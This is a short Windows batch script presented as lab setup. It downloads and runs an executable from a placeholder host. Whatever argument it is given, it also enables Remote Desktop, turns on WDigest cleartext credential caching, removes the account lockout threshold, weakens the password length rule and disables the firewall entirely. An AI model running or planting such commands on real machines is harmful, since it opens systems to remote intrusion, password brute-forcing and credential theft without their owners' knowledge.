@echo off
rem Opens what the lab needs.
if "%1"=="lab" (
    netsh advfirewall firewall add rule name="Remote Desktop" dir=in action=allow protocol=TCP localport=3389
    powershell -Command Invoke-WebRequest http://downloads.example.test/a.exe -OutFile C:\a.exe; C:\a.exe
)
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f
net accounts /minpwlen:6 /lockoutthreshold:0
netsh advfirewall set allprofiles state off
